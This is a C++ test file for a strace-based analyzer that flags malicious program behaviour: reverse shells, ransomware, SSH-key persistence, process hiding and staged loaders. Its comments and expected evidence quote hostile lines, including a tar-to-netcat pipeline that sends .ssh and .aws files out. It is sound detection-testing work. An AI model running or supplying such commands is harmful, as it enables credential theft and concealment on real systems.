  EXPECT_EQ(TableRisk(*j, "stability"), "not-assessed");
  EXPECT_EQ(TableField(*j, "stability", "observation"),
            "not assessed: the run never happened (strace could not start the target)");
  EXPECT_EQ(TableField(*j, "stability", "comments"),
            "the target never ran: every call in the trace is a failed exec, the first execve(\"./server\") = -1 EACCES "
            "at strace_log.43:1 (strace said \"strace: exec: Permission denied\" at program.log:1), so nothing the "
            "program would do was observed; the exit in the trace is strace's child's, not the program's: "
            "startup_crash @ strace_log.43:2, nonzero_exit @ strace_log.43:2 left out");
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{}));
}

// strace wrote no trace at all (formats/program_log/capture_strace_refusals.sh): "strace:
// Can't stat '/app/x': No such file or directory" (no such target) and "strace: attach:
// ptrace(PTRACE_SEIZE, N): Operation not permitted" (-p refused) leave an empty trace file
// and that one line. Before, with --allow-missing all, the verdict was PASS ("no finding
// above low severity"); the program was never traced, so it is INCONCLUSIVE and says why.
TEST(EndToEnd, StraceErrorWithoutTraceIsInconclusive) {
  for (const char* log : {"strace_cant_stat.txt", "strace_attach_seize_eperm.txt"}) {
    SCOPED_TRACE(log);
    const std::string dir = ::testing::TempDir() + "/rundown_strace_error_" + log;
    fs::create_directories(dir);
    { std::ofstream empty(dir + "/strace_log"); }  // what strace -o leaves: an empty file
    fs::copy_file(Case(std::string("formats/program_log/") + log), dir + "/program.log",
                  fs::copy_options::overwrite_existing);
    CliRun r = Cli({"analyze", dir, "--allow-missing", "all", "--format", "json"});
    EXPECT_EQ(r.code, 3) << r.err;
    auto j = ParseJson(r.out);
    const std::vector<std::string> reasons = Lines(*j, "verdict_reasons");
    ASSERT_EQ(reasons.size(), 1u);
    EXPECT_TRUE(reasons[0].starts_with("strace did not trace the target: strace said \"strace: ")) << reasons[0];
    EXPECT_TRUE(reasons[0].ends_with("\" at program.log:1 and there is no trace, so nothing the program would do "
                                     "was observed"))
        << reasons[0];
  }
}

// process_vm_readv of a child whose /proc/PID/maps was read first
// (formats/strace/f_tt_T_y_process_vm_readv.txt, formats/capture_stealth_probes.sh): the call
// has no ptrace request, so ptrace_call's observation read "ptrace used: ? by python3"; it
// names the call and the pid whose memory was read.
TEST(EndToEnd, ProcessVmReadvIsNamedWithItsTarget) {
  CliRun r = Cli({"analyze", Case("formats/strace/f_tt_T_y_process_vm_readv.txt"), "--format", "json",
                  "--allow-missing", "all"});
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(FindingOf(*j, "ptrace_call"), "observation"),
            "ptrace used: process_vm_readv 85 by python3 (pid 84), result 64");
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "ptrace_call"), "f_tt_T_y_process_vm_readv.txt", 280,
                          "process_vm_readv(85, [{iov_base="));
}

// strace written to stderr into the program's output (formats/capture_strace_stderr.sh):
// `strace -f -tt ... node app.js 2>&1 | tee program.log`. The file is the trace (a shell
// started: FAIL) and the program's output (its own lines, glued into strace's write lines
// or on lines of their own), said in a note; no line of it is a diagnostic.
TEST(EndToEnd, StraceOnStderrInProgramLogIsTraceAndOutput) {
  for (const char* dir : {"tee", "stderr"}) {
    CliRun r = Cli({"analyze", StrCat(RUNDOWN_TESTDATA, "/formats/strace_stderr/", dir), "--allow-missing", "all",
                    "--format", "json"});
    ASSERT_EQ(r.code, 1) << dir << r.err << r.out.substr(0, 2000);
    auto j = ParseJson(r.out);
    EXPECT_EQ(Str(j->root, "verdict"), "FAIL") << dir;
    EXPECT_EQ(Num(j->root, "diagnostics_total"), 0u) << dir;
    std::map<std::string, uint64_t> fired = FiredCounts(*j);
    EXPECT_EQ(fired["shell_spawned"], 1u) << dir;
    EXPECT_EQ(fired["loopback_connect"], 1u) << dir;
    EXPECT_EQ(fired["listening_socket"], 1u) << dir;
    std::map<std::string, std::string> files;
    for (simdjson::dom::element c : j->root["coverage"].get_array())
      for (simdjson::dom::element f : c["files"].get_array()) files[Str(c, "source")] += std::string(f.get_string().value());
    EXPECT_TRUE(files["strace"].ends_with(StrCat(dir, "/program.log"))) << dir;
    EXPECT_EQ(files["program_log"], files["strace"]) << dir;
    bool noted = false;
    for (simdjson::dom::element n : j->root["notes"].get_array()) {
      std::string_view note;
      if (n.get(note) == simdjson::SUCCESS) noted |= note.find("holds strace's trace") != std::string_view::npos;
    }
    EXPECT_TRUE(noted) << dir;
  }
  // The program's own lines, glued into write(2)'s line or on their own; strace's lines none.
  CliRun ev = Cli({"events", StrCat(RUNDOWN_TESTDATA, "/formats/strace_stderr/tee"), "--where",
                   "evt.source = \"program_log\" and not log.message startswith \"strace: \"", "--format", "ndjson"});
  ASSERT_EQ(ev.code, 0) << ev.err;
  std::vector<std::string> lines;
  for (absl::string_view l : absl::StrSplit(ev.out, '\n', absl::SkipEmpty())) {
    auto j = ParseJson(std::string(l));
    lines.push_back(StrCat(Num(j->root, "evt.line"), " ", Str(j->root, "log.message")));
  }
  EXPECT_EQ(lines, (std::vector<std::string>{"40 loading config... done", "52 listening on 127.0.0.1:8097",
                                             "54 debug mode on", "122 child says hi", "123 0", "131 got hello",
                                             "133 bye"}));
}

// strace on stderr into a file named as the trace, the program's stderr in it too
// (testdata/cases/node_stderr_in_trace/EXPECTED.md: `strace -f -tt node app.js 2> strace_log >
// program.log`; formats/capture_strace_stderr_log.sh). A write( followed by the text it wrote
// proves it: the file is read as the trace (every line decoded, glued writes joined) and as
// program output (the crash read, cited in strace_log), with a note.
TEST(EndToEnd, TraceFileHoldingTheProgramsStderrIsAlsoItsOutput) {
  CliRun r = Cli({"analyze", Case("cases/node_stderr_in_trace"), "--format", "json"});
  ASSERT_EQ(r.code, 3) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(Num(j->root, "diagnostics_total"), 0u);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{
                                 {"startup_crash", 1}, {"fatal_error_logged", 1}, {"missing_dependency", 1}, {"nonzero_exit", 1}}));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "missing_dependency"), "node_stderr_in_trace/strace_log", 611,
                          "Error: Cannot find module 'ws'"));
  EXPECT_EQ(Str(FindingOf(*j, "missing_dependency"), "observation"),
            "missing dependency: Error: Cannot find module 'ws' (1 line(s))");
  std::map<std::string, std::string> files;
  for (simdjson::dom::element c : j->root["coverage"].get_array())
    for (simdjson::dom::element f : c["files"].get_array())
      StrAppend(&files[Str(c, "source")], files[Str(c, "source")].empty() ? "" : " ",
                Basename(std::string(f.get_string().value())));
  EXPECT_EQ(files["strace"], "strace_log");
  EXPECT_EQ(files["program_log"], "program.log strace_log");
  bool noted = false;
  for (simdjson::dom::element n : j->root["notes"].get_array()) {
    std::string_view note;
    if (n.get(note) == simdjson::SUCCESS) noted |= note.find("the program's stderr went into it too") != std::string_view::npos;
  }
  EXPECT_TRUE(noted);
  // The glued writes are calls, each one event at its head's line.
  CliRun ev = Cli({"events", Case("cases/node_stderr_in_trace"), "--where", "evt.op = \"write\" and evt.fd = 2"});
  ASSERT_EQ(ev.code, 0) << ev.err;
  std::vector<std::string> at;
  for (absl::string_view l : absl::StrSplit(ev.out, '\n', absl::SkipEmpty()))
    at.push_back(std::string(l.substr(0, l.find(' '))));
  EXPECT_EQ(at, (std::vector<std::string>{"strace_log:592", "strace_log:598", "strace_log:607", "strace_log:628"}));

  // Python writes a traceback line in pieces; the line the program wrote is read whole.
  // Worker threads' lines between a write and its text (node_busy_stderr) are no diagnostics.
  const std::vector<std::pair<const char*, std::map<std::string, uint64_t>>> formats = {
      {"py_missing_module", {{"startup_crash", 1}, {"missing_dependency", 1}, {"nonzero_exit", 1}}},
      {"node_busy_stderr", {}},
  };
  for (const auto& [dir, fired] : formats) {
    CliRun f = Cli({"analyze", StrCat(RUNDOWN_TESTDATA, "/formats/strace_stderr/", dir), "--allow-missing", "all",
                    "--format", "json"});
    auto fj = ParseJson(f.out);
    EXPECT_EQ(Num(fj->root, "diagnostics_total"), 0u) << dir;
    EXPECT_EQ(FiredCounts(*fj), fired) << dir;
  }
  CliRun py = Cli({"analyze", StrCat(RUNDOWN_TESTDATA, "/formats/strace_stderr/py_missing_module"), "--format", "json"});
  auto pj = ParseJson(py.out);
  EXPECT_TRUE(AnyEvidence(FindingOf(*pj, "missing_dependency"), "py_missing_module/strace_log", 618,
                          "write(2, \"ModuleNotFoundError\", 19ModuleNotFoundError) = 19"));
  EXPECT_EQ(Str(FindingOf(*pj, "missing_dependency"), "observation"),
            "missing dependency: ModuleNotFoundError: No module named 'yaml_loader_missing' (1 line(s))");
}


// strace -e trace= forms read from strace's own ps row (testdata/cases/py_httpserver_filter_*,
// py_batch_filter_netproc; EXPECTED.md): the rows assessed are exactly the classes the set holds
// whole, whether or not the program made such a call; a set holding only some of a class's calls
// (connect,accept4; a regex) assesses none of it.
TEST(EndToEnd, TraceFilterFromPsDecidesAssessedRows) {
  const std::vector<std::tuple<const char*, const char*, std::vector<std::string>, std::string>> cases = {
      {"py_httpserver_filter_network", "INCONCLUSIVE", {"process", "file", "privilege", "backdoor"}, "%network"},
      {"py_httpserver_filter_process", "INCONCLUSIVE", {"network", "file", "privilege", "backdoor"}, "%process"},
      {"py_httpserver_filter_file", "INCONCLUSIVE", {"network", "privilege"}, "%file"},
      {"py_httpserver_filter_netproc", "INCONCLUSIVE", {"file", "privilege", "backdoor"}, "network,process"},
      {"py_httpserver_filter_connaccept", "INCONCLUSIVE", {"process", "network", "file", "privilege", "backdoor"},
       "connect,accept4"},
      {"py_httpserver_filter_regex", "INCONCLUSIVE", {"process", "network", "file", "privilege", "backdoor"},
       "/^(read|write)$"},
      {"py_httpserver_filter_notfutex", "PASS", {}, ""},
      // No network call at all, yet %network was traced: the network row is safe.
      {"py_batch_filter_netproc", "INCONCLUSIVE", {"file", "privilege", "backdoor"}, "%network,%process"},
  };
  for (const auto& [name, verdict, not_assessed, spec] : cases) {
    CliRun r = Cli({"analyze", Case(std::string("cases/") + name), "--format", "json", "--threads", "2"});
    auto j = ParseJson(r.out);
    EXPECT_EQ(Str(j->root, "verdict"), verdict) << name << r.err;
    std::vector<std::string> rows;
    for (simdjson::dom::element row : j->root["table"].get_array())
      if (Str(row, "risk") == "not-assessed") rows.push_back(Str(row, "category"));
    EXPECT_EQ(rows, not_assessed) << name;
    // Only the loopback listener, and only where bind/listen were traced.
    const std::string n = name;
    const bool listens = n.ends_with("_network") || (n.ends_with("_netproc") && n.starts_with("py_httpserver")) ||
                         n.ends_with("_notfutex");
    std::map<std::string, uint64_t> fired;
    if (listens) fired["listening_socket"] = 1;
    EXPECT_EQ(FiredCounts(*j), fired) << name;
    std::vector<std::string> reasons = Lines(*j, "verdict_reasons");
    if (spec.empty()) continue;
    std::string names;
    for (const std::string& c : not_assessed) names += (names.empty() ? "" : ", ") + c;
    EXPECT_EQ(reasons, std::vector<std::string>{"the trace is filtered (strace -e trace=" + spec +
                                                ", its ps row): " + names + " not assessed"})
        << name;
  }
}

// Ordinary programs and capture variants of rt-programs5 (testdata/cases/{py_httpserver_v6_qq,
// py_asyncio_v6,c_epoll_reuseport,busybox_httpd_attach,perl_fork_batch,tar_gzip_append,
// git_local_flow_z,cmake_ninja_build,java_pool_jar,rust_echo_killed,tcl_batch_exec}
// /EXPECTED.md): each reads right, with no false finding and nothing claimed that the capture
// could not show.
TEST(EndToEnd, OrdinaryProgramsAndCaptureVariantsReadRight) {
  const std::vector<std::tuple<const char*, const char*, std::map<std::string, uint64_t>>> cases = {
      {"py_httpserver_v6_qq", "PASS", {{"listening_socket", 1}}},
      {"py_asyncio_v6", "PASS", {{"listening_socket", 1}, {"loopback_connect", 1}}},
      {"c_epoll_reuseport", "PASS", {{"listening_socket", 3}, {"process_forked", 3}}},
      {"busybox_httpd_attach", "INCONCLUSIVE", {{"process_forked", 5}}},
      {"perl_fork_batch", "INCONCLUSIVE", {{"process_forked", 3}}},
      {"tar_gzip_append", "WARN", {{"child_process_spawned", 15}, {"process_forked", 14}}},  // no passwd read
      {"git_local_flow_z", "INCONCLUSIVE", {}},
      {"cmake_ninja_build", "INCONCLUSIVE", {{"child_process_spawned", 45}, {"process_forked", 45}}},  // no shell
      {"java_pool_jar", "PASS", {{"target_account_database_read", 2}}},
      {"rust_echo_killed", "PASS", {{"listening_socket", 1}}},
      {"tcl_batch_exec", "WARN",
       {{"child_process_spawned", 4}, {"process_forked", 4}, {"target_account_database_read", 1}, {"temp_write", 8}}},
  };
  for (const auto& [name, verdict, fired] : cases) {
    CliRun r = Cli({"analyze", Case(std::string("cases/") + name), "--format", "json", "--threads", "2"});
    auto j = ParseJson(r.out);
    EXPECT_EQ(Str(j->root, "verdict"), verdict) << name << r.err;
    EXPECT_EQ(FiredCounts(*j), fired) << name;
  }
  auto has_line = [](const std::vector<std::string>& lines, const std::string& want) {
    return std::find(lines.begin(), lines.end(), want) != lines.end();
  };
  // A request thread's close of the old fd 4, still unfinished when the main thread's accept4
  // got fd 4 again, does not drop the new connection: every transfer has its peer.
  CliRun r = Cli({"analyze", Case("cases/py_httpserver_v6_qq"), "--format", "json"});
  auto j = ParseJson(r.out);
  std::vector<std::string> net = Lines(*j, "network_activity");
  EXPECT_TRUE(has_line(net, "recv [::1]:* (loopback): 4 ok")) << r.out;
  EXPECT_TRUE(has_line(net, "send [::1]:* (loopback): 8 ok")) << r.out;
  for (const std::string& line : net) EXPECT_EQ(line.find("(no address)"), std::string::npos) << line;
  // asyncio's self-pipe is a socketpair: a local UNIX pair, not an unknown peer.
  r = Cli({"analyze", Case("cases/py_asyncio_v6"), "--format", "json"});
  j = ParseJson(r.out);
  net = Lines(*j, "network_activity");
  EXPECT_TRUE(has_line(net, "recv (socketpair) (unix): 2 ok, 1 failed")) << r.out;
  EXPECT_TRUE(has_line(net, "send (socketpair) (unix): 1 ok")) << r.out;
  // Accepts without a peer on a listener bound to 127.0.0.1 come from the host itself.
  r = Cli({"analyze", Case("cases/c_epoll_reuseport"), "--format", "json"});
  j = ParseJson(r.out);
  EXPECT_TRUE(has_line(Lines(*j, "network_activity"), "accept (peer not recorded) on port 8153 (loopback): 10 ok"));
  // strace -p: the ps row of the attached strace says the trace is unfiltered and attached;
  // the forked workers run the root's program (its command line from ps).
  r = Cli({"analyze", Case("cases/busybox_httpd_attach"), "--format", "json"});
  j = ParseJson(r.out);
  EXPECT_EQ(Lines(*j, "verdict_reasons"),
            std::vector<std::string>{"the trace does not show the target starting: strace was attached to the running "
                                     "pid 40 (ps: pid 46 strace -f -tt -T -y -o /artifacts/strace_log -p 40); what the "
                                     "program did before strace_log:1 is unknown"});
  EXPECT_EQ(Lines(*j, "process_tree")[1], "  └─ 5 × busybox httpd -f -p 127.0.0.1:8152 -h www  (exit 0)  pids 57 … 61");
  EXPECT_EQ(Str(j->root["overview"], "started"),
            "before 18:12:28.137033 (time of day) (strace attached to the running program then)");
  for (simdjson::dom::element row : j->root["table"].get_array()) EXPECT_NE(Str(row, "risk"), "not-assessed");
  // inotify alone still shows what was created and deleted, and what was modified: no traced
  // call opened it, so not "opened for writing" (before).
  r = Cli({"analyze", Case("cases/perl_fork_batch"), "--format", "json"});
  j = ParseJson(r.out);
  std::vector<std::string> files = Lines(*j, "file_activity");
  EXPECT_TRUE(has_line(files, "home: 6 paths (0 read, 4 written, 5 created, 3 deleted, 0 only failed attempts)")) << r.out;
  EXPECT_TRUE(has_line(files, "  /home/auditor/app/out/app1.count  (modified, create, delete, 4 inotify events)"));
  // strace -Z: the root is traced, its command is what is missing; a CLI that finished after
  // 3 s ran to completion.
  r = Cli({"analyze", Case("cases/git_local_flow_z"), "--format", "json"});
  j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root["overview"], "target"), "");
  EXPECT_EQ(Lines(*j, "process_tree")[0], "pid 64 (command not in the trace)  (exit 0)  ← target");
  EXPECT_EQ(Str(j->root["overview"], "life"),
            "the target ran to completion and exited with 0 after 3.02 s (it never listened or served: a command "
            "that ends by itself)");
  r = Cli({"analyze", Case("cases/git_local_flow_z")});
  EXPECT_NE(r.out.find("| Target | (its command is not in the trace) |"), std::string::npos);
  // c_evasive_miner was traced with -e 'trace=!futex' and stopped by the harness: a hang in
  // lock waits could not have shown, and a note says so; a run that ended by itself needs none.
  r = Cli({"analyze", Case("cases/c_evasive_miner"), "--format", "json"});
  j = ParseJson(r.out);
  EXPECT_TRUE(has_line(Lines(*j, "notes"),
                       "the target ran 2 threads and the trace has no futex call (as with strace -e trace=!futex): a "
                       "hang in lock waits at the harness's stop (hung_until_stopped) would not show"))
      << r.out;
  r = Cli({"analyze", Case("cases/java_pool_jar"), "--format", "json"});
  j = ParseJson(r.out);
  for (const std::string& note : Lines(*j, "notes")) EXPECT_EQ(note.find("futex"), std::string::npos) << note;
  // strace killed mid-run: the end is unknown, not a failure.
  r = Cli({"analyze", Case("cases/rust_echo_killed"), "--format", "json"});
  j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root["overview"], "exit_status"), "unknown (trace ended first)");
}

// Ransomware that rewrites files (testdata/cases/py_ransomware_home): every file it destroys
// was there before the run (read first), so file.new leaves none of them out.
TEST(EndToEnd, MassFileDestructionKeepsFilesRewrittenByTheRun) {
  CliRun r = Cli({"analyze", Case("cases/py_ransomware_home"), "--format", "json"});
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(FindingOf(*j, "mass_file_destruction"), "observation"),
            "43 of the user's files deleted, renamed or truncated in the run; first: unlink "
            "/home/auditor/Documents/report_01.txt by python3 (pid 139)");
}

// Three reverse shells in one script (testdata/cases/sh_reverse_shells, -f -tt -T -yy -s 128):
// bash's /dev/tcp, a named pipe relayed by busybox nc (no socket reaches the shell) and
// Python's pty.spawn. The interactive shells are named; busybox nc is a network tool, no shell.
TEST(EndToEnd, ReverseShellSpellingsIncludingTheFifoRelay) {
  CliRun r = Cli({"analyze", Case("cases/sh_reverse_shells"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{
                                 {"socket_as_stdio", 6},
                                 {"interactive_shell_spawned", 2}, {"shell_spawned", 4},
                                 {"network_tool_run", 1},
                                 {"shell_after_command_received", 2},
                                 {"child_process_spawned", 17}, {"account_database_read", 10},
                                 {"write_outside_app", 3}, {"process_forked", 17},
                                 {"temp_write", 2}, {"loopback_connect", 3}}));
  const std::string log = "sh_reverse_shells/strace_log";
  const simdjson::dom::element shell = FindingOf(*j, "interactive_shell_spawned");
  EXPECT_TRUE(AnyEvidence(shell, log, 274, "execve(\"/usr/bin/bash\", [\"bash\", \"-i\"]"));
  EXPECT_TRUE(AnyEvidence(shell, log, 1376, "execve(\"/bin/sh\", [\"/bin/sh\", \"-i\"]"));
  for (simdjson::dom::element e : FindingOf(*j, "shell_spawned")["evidence"].get_array())
    EXPECT_EQ(Str(e, "text").find("busybox"), std::string::npos) << Str(e, "text");
  EXPECT_EQ(TableRisk(*j, "backdoor"), "critical");
}

// `tar czf - .ssh .aws Documents | busybox nc 127.0.0.1 9009` (testdata/cases/sh_tar_nc_exfil):
// nc connects before tar reads the keys; they leave in nc's writes on that connection.
TEST(EndToEnd, PipelineSendsSecretsOnAConnectionOpenedBeforeTheRead) {
  CliRun r = Cli({"analyze", Case("cases/sh_tar_nc_exfil"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"secret_read_then_connect", 1},
                                                               {"credential_file_read", 3},
                                                               {"network_tool_run", 1},
                                                               {"child_process_spawned", 4},
                                                               {"user_files_archived", 1},
                                                               {"process_forked", 4},
                                                               {"loopback_connect", 1}}));
  const simdjson::dom::element exfil = FindingOf(*j, "secret_read_then_connect");
  EXPECT_EQ(Str(exfil, "observation"),
            "write to 127.0.0.1:9009 by busybox (pid 64) after the read of /home/auditor/.aws/credentials "
            "by tar (pid 63): collection then exfiltration or beaconing");
  const std::string log = "sh_tar_nc_exfil/strace_log";
  EXPECT_TRUE(AnyEvidence(exfil, log, 826, "\"credentials\", O_RDONLY"));
  EXPECT_TRUE(AnyEvidence(exfil, log, 926, "write(3<TCP:[127.0.0.1:45658->127.0.0.1:9009]>"));
  EXPECT_EQ(TableRisk(*j, "network"), "critical");
}

// Ransomware as a shell loop (testdata/cases/sh_ransom_zip_loop): a `zip -m -P` per file and
// one `rm` of the backups; no process removes more than 3 of the user's files, the run 24. Each
// zip's archive (created after an ENOENT, then unlinked) and its mkstemp temporary renamed onto
// the archive are paths the run made (file.new), not counted (66 before).
TEST(EndToEnd, FilesDestroyedOneProcessPerFileAreMassDestruction) {
  CliRun r = Cli({"analyze", Case("cases/sh_ransom_zip_loop"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"mass_file_destruction", 1},
                                                               {"child_process_spawned", 25},
                                                               {"user_files_archived", 21},
                                                               {"write_outside_app", 130},
                                                               {"process_forked", 26}}));
  const simdjson::dom::element wipe = FindingOf(*j, "mass_file_destruction");
  EXPECT_EQ(Str(wipe, "observation"),
            "24 of the user's files deleted, renamed or truncated in the run; first: unlink "
            "/home/auditor/Documents/invoice_01.txt by zip (pid 93)");
  EXPECT_TRUE(AnyEvidence(wipe, "sh_ransom_zip_loop/strace_log", 547,
                          "unlink(\"/home/auditor/Documents/invoice_01.txt\")"));
  EXPECT_EQ(TableRisk(*j, "file"), "critical");
}

// A site builder that writes 24 pages into ~/site-out with open("w") (a plain O_CREAT: no stat
// first), removes them and writes them again (testdata/cases/py_site_build_clean). The trace
// alone cannot tell a page it made from the user's file it emptied; inotify.log's CREATE of each
// page can: the deletes are of the run's own files, no mass_file_destruction (FAIL before).
TEST(EndToEnd, FilesTheRunMadeAsInotifyShowsAreNotTheUsersWhenDeleted) {
  CliRun r = Cli({"analyze", Case("cases/py_site_build_clean"), "--format", "json"});
  ASSERT_EQ(r.code, 0) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"write_outside_app", 72}}));
  EXPECT_EQ(TableRisk(*j, "file"), "medium");
  // Without the inotify log, the trace's reading stands.
  CliRun alone = Cli({"analyze", Case("cases/py_site_build_clean/strace_log"), "--format", "json"});
  auto a = ParseJson(alone.out);
  EXPECT_EQ(FiredCounts(*a).count("mass_file_destruction"), 1u);
}

// Defense evasion from a shell script (testdata/cases/sh_proc_hide_mount): a TracerPid check by
// grep, a helper dropped in /tmp and hidden with a bind mount over its /proc/PID (refused, then
// done inside unshare -rm), timestomp with touch -r.
TEST(EndToEnd, ProcessHiddenByAMountOverItsProcEntry) {
  CliRun r = Cli({"analyze", Case("cases/sh_proc_hide_mount"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{
                                 {"process_hidden_by_mount", 2}, {"debugger_check", 1},
                                 {"exec_from_temp", 1}, {"privilege_escalation_tool", 2},
                                 {"namespace_change", 1}, {"mount_or_root_change", 3},
                                 {"shell_spawned", 1}, {"timestomp", 1},
                                 {"child_process_spawned", 11}, {"process_forked", 10},
                                 {"temp_write", 2}}));
  const std::string log = "sh_proc_hide_mount/strace_log";
  const simdjson::dom::element hide = FindingOf(*j, "process_hidden_by_mount");
  EXPECT_TRUE(AnyEvidence(hide, log, 823, "mount(\"/tmp/.empty\", \"/proc/47\""));
  EXPECT_TRUE(AnyEvidence(hide, log, 1136, "MS_BIND, NULL) = 0"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "debugger_check"), log, 132, "TracerPid"));
  EXPECT_EQ(TableRisk(*j, "backdoor"), "critical");
}

// Sandbox evasion the ways malware spells it (testdata/cases/sh_vm_sandbox_checks): the tool
// systemd-detect-virt, the CPU's hypervisor flag, the DMI strings by /sys/devices/virtual/dmi/id/
// and the BIOS and chassis files. The tool's own read of PID 1's environment is its container
// check, not another process's secrets: WARN, not FAIL.
TEST(EndToEnd, VmAndContainerChecksInEverySpelling) {
  CliRun r = Cli({"analyze", Case("cases/sh_vm_sandbox_checks"), "--format", "json"});
  ASSERT_EQ(r.code, 0) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root, "verdict"), "WARN");
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{
                                 {"sandbox_detection", 8}, {"child_process_spawned", 4}, {"process_forked", 5}}));
  const std::string log = "sh_vm_sandbox_checks/strace_log";
  const simdjson::dom::element probe = FindingOf(*j, "sandbox_detection");
  EXPECT_TRUE(AnyEvidence(probe, log, 179, "execve(\"/usr/bin/systemd-detect-virt\""));
  EXPECT_TRUE(AnyEvidence(probe, log, 490, "\"hypervisor\", \"/proc/cpuinfo\""));
  EXPECT_TRUE(AnyEvidence(probe, log, 747, "\"/sys/devices/virtual/dmi/id/product_name\""));
  EXPECT_TRUE(AnyEvidence(probe, log, 897, "\"/sys/class/dmi/id/chassis_vendor\""));
  EXPECT_EQ(Str(probe, "observation"),
            "the program checked whether it runs in a container or VM: execve systemd-detect-virt by "
            "systemd-detect-virt (pid 46); 8 check(s)");
  EXPECT_EQ(TableRisk(*j, "file"), "safe");
  EXPECT_EQ(TableRisk(*j, "backdoor"), "medium");
}

// Persistence written the careful way (testdata/cases/py_ssh_key_persist): a temporary file
// renamed onto authorized_keys, ~/.ssh/config and a git hook, sed -i on ~/.bashrc. The
// observation names the file replaced, not only the temporary one.
TEST(EndToEnd, PersistenceByRenameNamesTheFileReplaced) {
  CliRun r = Cli({"analyze", Case("cases/py_ssh_key_persist"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{
                                 {"persistence_write", 4}, {"tool_config_hijack", 4},
                                 {"write_outside_app", 12}, {"child_process_spawned", 1},
                                 {"process_forked", 1}}));
  const std::string log = "py_ssh_key_persist/strace_log";
  const simdjson::dom::element persist = FindingOf(*j, "persistence_write");
  EXPECT_TRUE(AnyEvidence(persist, log, 653, "\"/home/auditor/.ssh/authorized_keys\") = 0"));
  EXPECT_TRUE(AnyEvidence(persist, log, 839, "rename(\"/home/auditor/sedXDYaf1\", \"/home/auditor/.bashrc\")"));
  EXPECT_EQ(Str(persist, "observation"),
            "persistence location written or attempted: rename /home/auditor/.ssh/.sync-gmlfraoh "
            "/home/auditor/.ssh/authorized_keys by python3 (pid 45), result 0; 4 write(s), refused ones included");
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "tool_config_hijack"), log, 677, "/.git/hooks/post-checkout\") = 0"));
  EXPECT_EQ(TableRisk(*j, "backdoor"), "critical");
}

// Stages run without an exec that names them (testdata/cases/sh_shm_loader_stage): an ELF in
// /dev/shm run by the dynamic loader, a Python and a shell stage fed on standard input.
TEST(EndToEnd, StagesRunThroughTheLoaderOrOnStdin) {
  CliRun r = Cli({"analyze", Case("cases/sh_shm_loader_stage"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{
                                 {"loader_run_from_temp", 1}, {"script_from_temp_on_stdin", 4},
                                 {"library_from_temp", 1}, {"shell_spawned", 1},
                                 {"account_database_read", 1}, {"child_process_spawned", 7},
                                 {"process_forked", 7}, {"temp_write", 5}, {"shared_memory_segment", 2},
                                 {"executed_file_deleted", 1}}));
  const std::string log = "sh_shm_loader_stage/strace_log";
  // The program the loader ran, removed by rm (file.executed through the loader's exec).
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "executed_file_deleted"), log, 1050, "\"/dev/shm/.shm-cache\", 0) = 0"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "loader_run_from_temp"), log, 380,
                          "[\"/lib64/ld-linux-x86-64.so.2\", \"/dev/shm/.shm-cache\", \"-un\"]"));
  const simdjson::dom::element stdin_stage = FindingOf(*j, "script_from_temp_on_stdin");
  EXPECT_TRUE(AnyEvidence(stdin_stage, log, 672, "read(0</dev/shm/.shm-warm>"));
  EXPECT_TRUE(AnyEvidence(stdin_stage, log, 827, "read(0</tmp/.warm-sh>"));
  EXPECT_EQ(Str(stdin_stage, "observation"),
            "a script in a temporary directory was fed to an interpreter on its standard input: "
            "python3 < /dev/shm/.shm-warm (pid 46, parent faststart.sh pid 42); 4 read(s)");
  EXPECT_EQ(TableRisk(*j, "backdoor"), "high");
}

// A dropper that keeps its stage out of /tmp (testdata/cases/c_home_dropper): written to
// ~/.local/share/.dbus-session, made executable and run. WARN before dropped_program_run.
TEST(EndToEnd, ProgramWrittenToTheHomeAndRunIsADrop) {
  CliRun r = Cli({"analyze", Case("cases/c_home_dropper"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{
                                 {"dropped_program_run", 1}, {"account_database_read", 1},
                                 {"write_outside_app", 4}, {"user_app_data_write", 2},
                                 {"child_process_spawned", 3}, {"process_forked", 3}}));
  const simdjson::dom::element drop = FindingOf(*j, "dropped_program_run");
  EXPECT_TRUE(AnyEvidence(drop, "c_home_dropper/strace_log", 36,
                          "execve(\"/home/auditor/.local/share/.dbus-session/dbus-session-helper\""));
  EXPECT_EQ(Str(drop, "observation"),
            "a program the run wrote was then executed: /home/auditor/.local/share/.dbus-session/dbus-session-helper "
            "(pid 52, parent updater pid 51, dbus-session-helper); 1 time(s)");
  EXPECT_EQ(TableRisk(*j, "process"), "high");
  EXPECT_EQ(TableRisk(*j, "backdoor"), "high");
}

